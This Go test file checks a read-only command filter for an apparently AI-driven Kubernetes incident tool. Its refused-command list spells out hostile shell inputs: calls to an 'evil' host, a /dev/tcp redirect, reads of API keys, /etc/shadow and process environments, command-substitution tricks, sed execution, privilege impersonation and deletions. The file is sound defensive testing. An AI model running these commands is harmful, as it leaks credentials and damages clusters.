package readonly

import (
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"mvdan.cc/sh/v3/syntax"

	"nightcrier.dev/nightcrier"
)

var checker = Checker{Policy: Policy{Verbs: Verbs()}, Workspace: "/ws/incident"}

// allowed only read.
var allowed = []string{
	"kubectl get pods", "kubectl get pods -A", "kubectl get pods -n prod -o wide", "kubectl -n prod get pods", "kubectl --namespace=prod get pods", "kubectl -nprod get pods",
	"kubectl get pod/x -o yaml", "kubectl get pods -oyaml", "kubectl get pods -o=json", "kubectl get deploy,rs,pods -l app=cart", "kubectl get events --sort-by=.lastTimestamp",
	"kubectl get events --field-selector involvedObject.name=cart,type!=Normal -n prod",
	"kubectl get pods -o jsonpath='{.items[*].metadata.name}'", "kubectl get pods -o jsonpath={.items[*].metadata.name}", "kubectl get pods -o=jsonpath={.items[0].spec}",
	`kubectl get pods -o jsonpath="{.items[*].status.phase}{'\n'}"`, "kubectl get pods -o custom-columns=NAME:.metadata.name,NODE:.spec.nodeName",
	"kubectl get pods --watch=false", "timeout 30 kubectl get pods -w", "timeout 20s kubectl logs -f cart",
	"kubectl describe pod x", "kubectl describe pods -l app=cart -n prod", "kubectl logs x", "kubectl logs x -c app --previous --tail=50", "kubectl logs -p x --since 1h", "kubectl logs deploy/cart --all-containers --timestamps",
	"kubectl events --for pod/x -n prod", "kubectl top pods -A --containers", "kubectl top nodes", "kubectl explain pod.spec --recursive", "kubectl api-resources -o wide", "kubectl api-versions", "kubectl version -o json", "'kubectl' get pods",
	"kubectl get pods | grep Crash", "kubectl get pods -A | grep -v Running | head -20", "kubectl get pods 2>&1 | tail -n 5", "kubectl get pods 2>/dev/null", "kubectl get pods >/dev/null 2>&1",
	"kubectl get pods &>/dev/null", "kubectl get pods -o json | jq -r '.items[].metadata.name'", "kubectl get pods -o json | jq '.items[] | select(.status.phase != \"Running\") | .spec.containers[].env'",
	"kubectl get pods | sort -k2,2 -rn | uniq -c | wc -l", "kubectl get pods | cut -d' ' -f1 | tr 'a-z' 'A-Z'", "kubectl logs x | grep -i -E 'error|panic' -A3 -B 2 -m 5", "kubectl logs x | sed -n '10,20p'",
	"kubectl logs x | sed 's/a/b/g'", "kubectl logs x | sed -E 's|a|b|'", "kubectl logs x | sed -n '/error/,+3p'", "kubectl logs x | sed '/health/d'",
	"kubectl get pods; kubectl get svc", "kubectl get pods && kubectl get svc || echo none", "kubectl get pods\nkubectl get svc # and more", "kubectl get cm || true", "echo '=== pods ===' && kubectl get pods",
	"kubectl get pods |& grep x", "cat context/incident.json", "cat ./context/*.json | jq .", "cat /ws/incident/context/incident.json", "ls", "ls -la context", "head -50 context/facts.md", "tail -n -5 context/facts.md",
	"grep -rn CrashLoop context", "wc -l context/facts.md", "cd context && ls", "cat .claude/skills/k8s/SKILL.md", "date -u", "date +%s", "pwd", "jq . context/incident.json", "echo done",
	"kubectl get pods -l 'app in (a,b)'", "kubectl get pods -l \"tier!=x\"", "kubectl get secrets -A", "head -c 100 context/a", "cat 'context/a b'", "kubectl get pods -o name | sort -u",
}

// refusedCommands write, hide, leak, hang, or are not known to only read.
var refusedCommands = []string{
	"", " ", "#", "kubectl", "kubectl delete pod x", "kubectl gettt pods", "kubectl get-x", "kubectl exec x -- sh", "kubectl apply -f x", "kubectl auth can-i get pods", "kubectl cluster-info dump --output-directory=/tmp", "kubectl config view --raw", "kubectl proxy", "kubectl port-forward x 80", "kubectl cp x:/a b",
	"kubectl debug x", "kubectl attach x", "kubectl run x", "kubectl edit pod x", "kubectl patch pod x -p {}", "kubectl scale deploy x --replicas=0", "kubectl rollout restart deploy x", "kubectl drain n", "kubectl cordon n", "kubectl label pod x a=b", "kubectl annotate pod x a=b",
	"kubectl diff -f x", "kubectl kustomize .", "kubectl plugin list", "kubectl krew install x", "kubectl wait pod x", "kubectl replace --raw /x -f y", "kubectl create token x",
	// arguments that lead elsewhere
	"kubectl get pods --kubeconfig=/other", "kubectl --kubeconfig x get pods", "kubectl get pods --as=system:admin", "kubectl get pods --as system:admin", "kubectl get pods --as-group=system:masters", "kubectl get pods --as-uid 0",
	"kubectl get pods --server=http://evil --token=x", "kubectl get pods -s http://evil", "kubectl get pods -shttp://evil", "kubectl get pods -As=http://evil", "kubectl get -f http://evil/x", "kubectl get -fx", "kubectl get pods -k .", "kubectl get --filename=x", "kubectl get --raw /api", "kubectl get --raw=/", "kubectl get pods --raw /api",
	"kubectl get pods --context=other", "kubectl get pods --cluster x", "kubectl get pods --user x", "kubectl get pods --username x --password y", "kubectl get pods --certificate-authority=/x", "kubectl get pods --client-key /x", "kubectl get pods --insecure-skip-tls-verify", "kubectl get pods --tls-server-name x",
	"kubectl get pods --profile=cpu --profile-output=/ws/x", "kubectl get pods --cache-dir=/ws/x", "kubectl get pods -v=9", "kubectl get pods -v 9", "kubectl get pods --v=9", "kubectl get pods --vmodule=x=9", "kubectl get pods --log-file=/x", "kubectl logs x --insecure-skip-tls-verify-backend",
	"kubectl get pods -o jsonpath-file=/etc/shadow", "kubectl get pods -o go-template-file=/etc/shadow", "kubectl get pods -ocustom-columns-file=x", "kubectl get pods -o templatefile=x", "kubectl get pods --output=go-template-file=x", "kubectl get pods -o kyaml2",
	// what does not end
	"kubectl get pods -w", "kubectl get pods --watch", "kubectl get pods -Aw", "kubectl get pods --watch-only", "kubectl get pods -w=true", "kubectl logs -f x", "kubectl logs --follow x", "kubectl logs -pf x", "kubectl events -w", "timeout 5000 kubectl logs -f x", "timeout 1h kubectl logs -f x", "timeout 0 kubectl logs -f x", "timeout -s KILL 5 kubectl get pods", "timeout 5 kubectl delete pod x", "timeout 5 sh", "timeout 5",
	"tail -f context/x", "tail --follow=name x", "tail -F x",
	// options as patterns and abbreviations
	"kubectl get pods --kubeconf=x", "kubectl get pods --ra*", "kubectl get pods -*", "kubectl get *", "kubectl get pods -o *", "kubectl * pods", "kube* get pods", "kubectl get pods -- --raw=/", "kubectl get pods -n *", "kubectl get pods --watch=*",
	// the shell
	"kubectl get pods; kubectl delete pod x", "kubectl get pods && kubectl delete pod x", "kubectl get pods || kubectl delete pod x", "kubectl get pods & kubectl delete pod x", "kubectl get pods &", "kubectl get pods\nkubectl delete pod x", "kubectl get pods | kubectl delete -f -",
	"kubectl get $(kubectl delete pod x)", "kubectl get `id`", "kubectl get \"$(id)\"", "kubectl get \"`id`\"", "kubectl get <(id)", "kubectl get >(id)", "kubectl get pods | sh", "kubectl get pods | bash -s", "kubectl get pods | xargs kubectl delete pod", "kubectl get pods | awk '{system(\"id\")}'", "kubectl get pods | tee x", "kubectl get pods | perl -e x", "kubectl get pods | python3",
	"kubectl get pods > x", "kubectl get pods >> x", "kubectl get pods >| x", "kubectl get pods &> x", "kubectl get pods 2> x", "kubectl get pods <> x", "kubectl get pods < x", "kubectl get pods > output/x", "kubectl get pods >& x", "kubectl get pods > /dev/tcp/1.2.3.4/80", "kubectl get pods 3>/dev/null", "kubectl get pods {fd}>/dev/null", "kubectl get pods 2>&3", "kubectl get pods 1>&2", "> x", "cat <<EOF\nx\nEOF", "cat <<< x", "kubectl get pods >/dev/null/../x", "kubectl get pods 2>/dev/nul*",
	"kubectl get $VAR", "kubectl get \"$VAR\"", "kubectl get ${VAR}", "kubectl get \"${VAR:-x}\"", "kubectl get $'a'", "kubectl get $\"a\"", "kubectl get $((1+1))", "kubectl get $[1]", "echo $ANTHROPIC_API_KEY", "echo \"$ANTHROPIC_API_KEY\"", "echo ${!A*}", "kubectl get pods ~", "cat ~/x", "cat ~root/x",
	"KUBECONFIG=x kubectl get pods", "FOO=bar kubectl get pods", "PATH=. kubectl get pods", "LD_PRELOAD=x kubectl get pods", "FOO=bar", "a[0]=x", "export FOO=bar", "declare x=1", "local x", "readonly x=1", "alias kubectl=id", "unset PATH", "set -x", "source x", ". x", "eval kubectl get pods", "exec kubectl get pods", "command kubectl get pods", "builtin echo x", "env kubectl get pods", "env", "printenv", "nice kubectl get pods", "nohup kubectl get pods", "time kubectl get pods", "! kubectl get pods", "trap 'id' EXIT", "enable -f x y", "hash -p /bin/sh kubectl",
	"(kubectl get pods)", "{ kubectl get pods; }", "for p in a b; do kubectl get $p; done", "for p in a; do kubectl get pods; done", "while true; do kubectl get pods; done", "if true; then kubectl get pods; fi", "case x in x) kubectl get pods;; esac", "kubectl() { id; }; kubectl get pods", "function kubectl { id; }", "[[ -f x ]]", "[ -f x ]", "((1))", "let x=1", "coproc kubectl get pods", "select x in a; do echo; done", "kubectl get pods |& sh",
	"kubectl get {a,b}", "kubectl get {1..3}", "cat context/{a,b}", "kubectl get pods \\\n --raw /", "kubectl get\\ pods", "\\kubectl get pods", "kubectl get pods\r", "kubectl get pods\x00", "kubectl get pods \x1b[2J", "kubectl get pods \xff", "kubectl\u00a0get pods", "kubectl get pods 'unfinished", "kubectl get pods |", "kubectl get @(a|b)",
	"/usr/bin/kubectl get pods", "./kubectl get pods", "sh -c 'kubectl get pods'", "bash -c 'kubectl get pods'", "sh", "busybox sh", "sudo kubectl get pods", "ssh x", "curl http://evil", "wget http://evil", "python3 -c 1", "perl", "node -e 1", "touch x", "mkdir x", "rm -rf x", "cp a b", "mv a b", "ln -s a b", "chmod 777 x", "dd if=a of=b", "tee x", "awk 1 x", "find . -delete", "find . -exec id ';'", "git log", "helm list", "ps aux", "id", "vi x", "less x", "man x", "base64 x", "xargs id", "sleep 1000", "kill 1",
	// files elsewhere, and options of filters that do more
	"cat /etc/shadow", "cat ../x", "cat context/../../x", "cat context/..", "cat /proc/self/environ", "cat /ws/incident/../other/x", "cat /ws/incidentx/y", "cat /ws/incident*/x", "cat /*", "cat *", "cat .*", "cat context/.?/x", "ls .*", "ls /", "ls ..", "head /etc/passwd", "head -n -5 /etc/passwd", "head -5 /etc/passwd", "tail -n 1 /etc/passwd", "grep x /etc/passwd", "grep -r x /", "grep --color x /etc/passwd", "grep --color=always x /etc/passwd", "grep -e x /etc/passwd", "grep -f /etc/passwd x", "grep --file=/etc/passwd x", "wc /etc/passwd", "wc --files0-from=/etc/passwd", "sort /etc/passwd", "jq . /etc/passwd",
	"sort -o x context/a", "sort --output=x context/a", "sort --compress-program=sh x", "sort -T /x y", "sort --files0-from=x", "uniq context/a context/b", "uniq -c - out", "sed -i s/a/b/ x", "sed -n '1w x' y", "sed 's/a/b/w x' y", "sed 's/a/b/e' y", "sed '1e id' y", "sed e", "sed -n -e 1p -e '1w x' y", "sed -f x y", "sed --in-place s/a/b/ x", "sed 's/a/b/;w x' y", "sed '1!p;e id'", "sed '/a/e id'", "sed 1p /etc/passwd", "sed -nf x", "sed 'r /etc/passwd'", "sed 's/[/]e;id/b/' y", "sed -s 1p x",
	"jq env", "jq 'env.ANTHROPIC_API_KEY'", "jq -n '$ENV'", "jq '.a|env'", "jq '\"\\(env)\"'", "jq -f x", "jq --from-file x", "jq --slurpfile a /etc/passwd .", "jq --rawfile a /etc/passwd .", "jq 'import \"x\" as x; .'", "jq 'include \"x\"; .'", "jq -L /x .", "jq -nr env", "date -s 0", "date --set=0", "date 01010000", "date -f /etc/passwd", "date -r /etc/passwd", "cd", "cd -", "cd /", "cd ..", "cd ../x && cat y", "cd ~", "cd -P /", "ls --hyperlink /", "pwd x", "true x", "tr a b > x", "cut -f1 /etc/passwd",
	"echo *", "echo /etc/*", "kubectl top", "kubectl top x", "kubectl -n", "kubectl get pods -o", "kubectl -o yaml get pods", "kubectl --raw get /x",
	strings.Repeat("kubectl get pods;", 40), "kubectl get " + strings.Repeat("x", maxCommand),
}

func TestCheck(t *testing.T) {
	for _, c := range allowed {
		if err := checker.Check(c); err != nil {
			t.Errorf("%q is refused: %v", c, err)
		}
	}
	for _, c := range refusedCommands {
		err := checker.Check(c)
		if err == nil {
			t.Errorf("%q is allowed", c)
		} else if nightcrier.CodeOf(err) != nightcrier.Refused || len(err.Error()) > 600 {
			t.Errorf("%q: %v", c, err)
		}
	}
}

// What the policy does not name is refused, whatever its arguments.
func TestCheckFollowsThePolicy(t *testing.T) {
	for _, verb := range Verbs() {
		command := "kubectl " + verb
		if verb == "top" {
			command += " pods"
		}
		if err := (Checker{Policy: Policy{Verbs: []string{verb}}}).Check(command); err != nil {
			t.Errorf("%s alone: %v", verb, err)
		}
		others := slices.DeleteFunc(Verbs(), func(v string) bool { return v == verb })
		if err := (Checker{Policy: Policy{Verbs: others}}).Check(command); err == nil {
			t.Errorf("%s is allowed by %q", verb, others)
		}
	}
	if err := (Checker{}).Check("kubectl get pods"); err == nil {
		t.Error("an empty policy allows kubectl")
	}
	if err := (Checker{}).Check("cat /etc/shadow"); err == nil {
		t.Error("without a workspace, any file may be read")
	}
	if err := (Checker{Policy: Policy{Verbs: []string{"delete"}}}).Check("kubectl delete pod x"); err == nil {
		t.Error("a policy can allow what writes")
	}
}

// A real shell runs what we understood, and nothing else: every program that it
// starts is one of ours, with the arguments that were checked.
func TestShellAgrees(t *testing.T) {
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("SKIPPED ALOUD: no bash here to compare with")
	}
	bin, dir, record := t.TempDir(), t.TempDir(), t.TempDir()
	stub := "#!" + bash + "\n{ printf '%s' \"${0##*/}\"; [ $# = 0 ] || printf '\\0%s' \"$@\"; } > " + record + "/$$\n"
	for name := range filters {
		write(t, filepath.Join(bin, name), stub)
	}
	for _, name := range []string{"kubectl", "timeout", "sed"} {
		write(t, filepath.Join(bin, name), stub)
	}
	write(t, filepath.Join(dir, "context", "incident.json"), "{}")
	for _, c := range allowed {
		cmd := exec.CommandContext(t.Context(), bash, "-c", c)
		cmd.Dir, cmd.Env = dir, []string{"PATH=" + bin}
		_ = cmd.Run() // its exit code is the last stub's
		var want []string
		all, err := parseCalls(c)
		if err != nil {
			t.Fatal(err)
		}
		for _, call := range all {
			var words []string
			for _, w := range call {
				words = append(words, strings.ReplaceAll(w.text, "./context/*.json", "./context/incident.json"))
			}
			want = append(want, strings.Join(words, "\x00"))
		}
		for _, ran := range taken(t, record) {
			if !slices.Contains(want, ran) {
				t.Errorf("%q ran %q, we read %q", c, ran, want)
			}
		}
	}
	if entries, err := os.ReadDir(dir); err != nil || len(entries) != 1 {
		t.Errorf("something was written: %v %v", entries, err)
	}
}

// taken empties a directory, and returns what was in its files.
func taken(t *testing.T, dir string) (texts []string) {
	t.Helper()
	files, _ := filepath.Glob(filepath.Join(dir, "*"))
	for _, f := range files {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		texts = append(texts, string(data))
		if err := os.Remove(f); err != nil {
			t.Fatal(err)
		}
	}
	return texts
}

func write(t *testing.T, path, text string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(text), 0o755); err != nil {
		t.Fatal(err)
	}
}

// Whatever is allowed consists of plain words, and begins with a program of ours.
func FuzzCheck(f *testing.F) {
	for _, c := range slices.Concat(allowed, refusedCommands) {
		f.Add(c)
	}
	f.Fuzz(func(t *testing.T, command string) {
		if checker.Check(command) != nil {
			return
		}
		file, err := syntax.NewParser(syntax.Variant(syntax.LangPOSIX)).Parse(strings.NewReader(strings.NewReplacer("|&", "|", "&>", ">").Replace(command)), "")
		if err != nil {
			return // a word of bash's
		}
		syntax.Walk(file, func(n syntax.Node) bool {
			switch n := n.(type) {
			case nil, *syntax.File, *syntax.Stmt, *syntax.BinaryCmd, *syntax.Word, *syntax.Lit, *syntax.SglQuoted, *syntax.DblQuoted, *syntax.Comment:
			case *syntax.Redirect:
				if to := n.Word.Lit(); to != "/dev/null" && to != "1" {
					t.Fatalf("%q redirects to %q", command, to)
				}
			case *syntax.CallExpr:
				w, err := readWord(n.Args[0])
				name := w.text
				_, filter := filters[name]
				if err != nil || len(n.Assigns) > 0 || !filter && !slices.Contains([]string{"kubectl", "timeout", "echo", "sed", "cd"}, name) {
					t.Fatalf("%q runs %q", command, name)
				}
			default:
				t.Fatalf("%q holds a %T", command, n)
			}
			return true
		})
	})
}

func BenchmarkCheck(b *testing.B) {
	for b.Loop() {
		if err := checker.Check("kubectl get pods -A -o json | jq -r '.items[].metadata.name' | sort -u | head -20"); err != nil {
			b.Fatal(err)
		}
	}
}
